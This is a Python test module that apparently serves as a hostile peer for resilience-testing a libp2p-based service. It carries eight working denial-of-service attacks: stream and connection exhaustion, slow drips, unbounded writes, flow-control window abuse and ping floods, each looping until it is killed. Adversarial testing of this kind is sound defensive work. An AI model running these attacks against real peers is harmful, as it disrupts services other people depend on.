"""A stranger on the network that means harm, with py-libp2p as it is: `python -m tests.hostile.stranger ATTACK ADDRESS`.

Says `begun` each time it begins, and goes on until it is killed: what the peer refuses does not stop it.
"""

from __future__ import annotations

import contextlib
import secrets
import socket
import struct
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from functools import partial
from typing import Any

import trio
from libp2p import new_host
from libp2p.abc import IHost
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_new_noise_key_pair
from libp2p.custom_types import TProtocol
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX
from libp2p.stream_muxer.yamux.yamux import Yamux
from multiaddr import Multiaddr

DATA, KEPT, SITE, MQ = (TProtocol(f"/goop/{name}/1.0.0") for name in ("data", "data-keep", "site", "mq"))
PIECE = b"x" * 65536
SOURCE = f"127.66.{secrets.randbelow(255)}.{secrets.randbelow(254) + 1}"
"""A stranger has an address of its own, which is what the peer counts connections by."""


@contextlib.asynccontextmanager
async def connected(address: str) -> AsyncIterator[tuple[IHost, Any, Any]]:
    """A host, the peer's id, and the muxed connection to it."""
    keys = create_new_key_pair(secrets.token_bytes(32))
    noise = NoiseTransport(keys, noise_privkey=create_new_noise_key_pair().private_key)
    host = new_host(key_pair=keys, sec_opt={NOISE: noise}, muxer_opt={TProtocol(YAMUX): Yamux})
    async with host.run([Multiaddr("/ip4/127.0.0.1/tcp/0")]):
        info = info_from_p2p_addr(Multiaddr(address))
        await host.connect(info)
        network: Any = host.get_network()
        muxed = network.get_connections(info.peer_id)[0].muxed_conn
        muxed.stream_backlog_semaphore = trio.Semaphore(1_000_000)
        print("begun", flush=True)
        yield host, info.peer_id, muxed


async def opens_streams(address: str) -> None:
    """Ten thousand, and closes none."""
    async with connected(address) as (_host, _peer, muxed):
        for _ in range(10_000):
            await muxed.open_stream()
        await trio.sleep_forever()


async def negotiates_streams(address: str) -> None:
    """As many as it can have that speak a protocol and say nothing."""
    async with connected(address) as (host, peer, _muxed), trio.open_nursery() as nursery:
        for each in range(10_000):
            nursery.start_soon(host.new_stream, peer, [(DATA, KEPT, SITE, MQ)[each % 4]])
            await trio.sleep(0.001)


async def sends_a_line_without_end(address: str) -> None:
    """A gigabyte."""
    async with connected(address) as (host, peer, _muxed):
        stream = await host.new_stream(peer, [DATA])
        for _ in range(1 << 14):
            await stream.write(PIECE)


async def drips(address: str) -> None:
    """One byte a second, on many streams."""
    async with connected(address) as (host, peer, _muxed):
        streams = [await host.new_stream(peer, [(DATA, KEPT, SITE, MQ)[each % 4]]) for each in range(60)]
        while True:
            for stream in streams:
                with contextlib.suppress(Exception):
                    await stream.write(b"x")
            await trio.sleep(1)


async def reads_no_answer(address: str) -> None:
    """Asks for what is large, again and again, and takes none of it."""
    async with connected(address) as (host, peer, _muxed), trio.open_nursery() as nursery:

        async def ask() -> None:
            stream = await host.new_stream(peer, [SITE])
            await stream.write(b"GET /film.bin\n")

        for _ in range(10_000):
            nursery.start_soon(ask)
            await trio.sleep(0.01)


async def ignores_windows(address: str) -> None:
    """Sends what the peer has no room for."""
    while True:
        with contextlib.suppress(Exception):
            async with connected(address) as (host, peer, _muxed):
                stream: Any = await host.new_stream(peer, [MQ])
                stream.muxed_stream.send_window = 1 << 40
                for _ in range(1 << 14):
                    await stream.write(PIECE)


async def floods_frames(address: str) -> None:
    """Pings, each to be answered."""
    async with connected(address) as (_host, _peer, muxed):
        ping = struct.pack("!BBHII", 0, 2, 1, 0, 7) * 2000
        while True:
            await muxed.secured_conn.write(ping)


async def connects_and_says_nothing(address: str) -> None:
    """More connections than there are places, each held at another step."""
    port = int(Multiaddr(address).value_for_protocol("tcp") or 0)
    held = []
    print("begun", flush=True)
    while True:
        for first_words in (
            b"",
            b"\x13/multistream/1.0.0\n",
            b"\x13/multistream/1.0.0\n\x07/noise\n",
            b"\x13/multistream/1.0.0\n\x07/noise\n\x00\x20",
        ):
            sock = socket.socket()
            sock.bind((SOURCE, 0))
            with contextlib.suppress(OSError):
                sock.connect(("127.0.0.1", port))
                sock.sendall(first_words)
                held.append(sock)
        await trio.sleep(0.01)
        del held[:-400]


ATTACKS: dict[str, Callable[[str], Awaitable[None]]] = {
    each.__name__: each
    for each in (
        opens_streams,
        negotiates_streams,
        sends_a_line_without_end,
        drips,
        reads_no_answer,
        ignores_windows,
        floods_frames,
        connects_and_says_nothing,
    )
}


if __name__ == "__main__":
    trio.open_tcp_stream = partial(trio.open_tcp_stream, local_address=SOURCE)
    while True:
        with contextlib.suppress(Exception):
            trio.run(ATTACKS[sys.argv[1]], sys.argv[2])
        time.sleep(0.1)
